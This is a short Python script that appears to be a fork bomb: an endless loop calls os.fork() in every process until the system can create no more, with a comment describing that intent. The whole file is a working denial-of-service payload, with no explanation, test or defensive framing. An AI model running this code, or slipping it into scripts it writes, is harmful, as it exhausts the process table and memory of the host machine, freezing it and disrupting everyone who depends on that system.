import os
import sys

# Every process forks until it may not; the first of them then fails.
while True:
    try:
        os.fork()
    except OSError:
        sys.exit(1)
